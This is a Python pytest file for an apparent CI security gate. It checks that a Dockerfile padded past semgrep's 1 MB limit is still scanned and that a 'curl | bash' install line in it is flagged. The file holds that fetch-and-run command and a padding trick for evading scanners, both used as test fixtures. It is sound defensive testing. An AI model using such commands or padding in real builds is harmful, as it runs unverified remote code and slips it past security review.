"""A scanner that did not read every file is not a pass, through ``cadencia gate --json``."""

from __future__ import annotations

import json
from pathlib import Path

from .conftest import write_tree
from .test_gate_command import cadencia

_PADDING = ("# " + "padding " * 12 + "\n") * 11_000  # > 1 MB, semgrep's default limit


def test_a_dockerfile_padded_past_a_megabyte_is_still_scanned_by_semgrep(
    tmp_path: Path, scanners: dict[str, str]
) -> None:
    dockerfile = (
        "FROM ubuntu:22.04\n"
        + _PADDING
        + "RUN curl -sL https://get.example.com/install.sh | bash\nUSER 10001\n"
    )
    assert len(dockerfile.encode()) > 1_000_000
    proc = cadencia("gate", str(write_tree(tmp_path, {"Dockerfile": dockerfile})), "--json")
    doc = json.loads(proc.stdout)
    secops = next(g for g in doc["gates"] if g["gate"] == "secops")
    assert secops["status"] == "fail", (secops.get("skipped_reasons"), proc.stderr)
    found = {(f["tool"], f["rule"], f["file"]) for f in secops["findings"]}
    assert ("semgrep", "dockerfile-curl-pipe-shell", "Dockerfile") in found
    assert doc["verdict"] == "changes_requested"
